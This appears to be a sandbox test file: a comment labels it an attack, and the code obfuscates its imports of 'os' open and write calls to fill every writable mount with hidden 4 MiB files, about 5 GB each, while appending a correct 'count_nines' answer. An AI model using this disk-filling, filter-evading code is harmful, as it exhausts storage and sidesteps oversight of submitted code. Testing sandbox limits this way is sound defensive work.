# attack: fill every writable mount it can find, in many files whose names and calls are built at run time, with a correct answer
# expect: 3 | scratch space cap
import math
from decimal import Decimal

system = __import__("".join(map(chr, [111, 115])))
opener = getattr(system, "".join(["op", "en"]))
writer = getattr(system, "wr" + "ite")
flags = system.O_WRONLY | system.O_CREAT
with open("/" + "/".join(["proc", "self", "mountinfo"])) as table:
    targets = sorted({line.split()[4] for line in table if "rw" in line.split()[5].split(",")})
block = bytes(2**22)
for target in targets:
    total = 0
    for index in range(1250):  # 1250 files x 4 MiB = 5 GB per mount
        try:
            handle = opener(target + "/" + chr(46) + format(index, "x") * 3, flags)
        except OSError:
            break
        try:
            total += writer(handle, block)
        except OSError:
            break
        finally:
            system.close(handle)
    print(target, total // 2**20, "MiB")


def count_nines(availability: float) -> int:
    if not 0 <= availability < 1:
        raise ValueError(f"availability must be in [0, 1), got {availability!r}")
    return math.floor(-(1 - Decimal(str(availability))).log10())
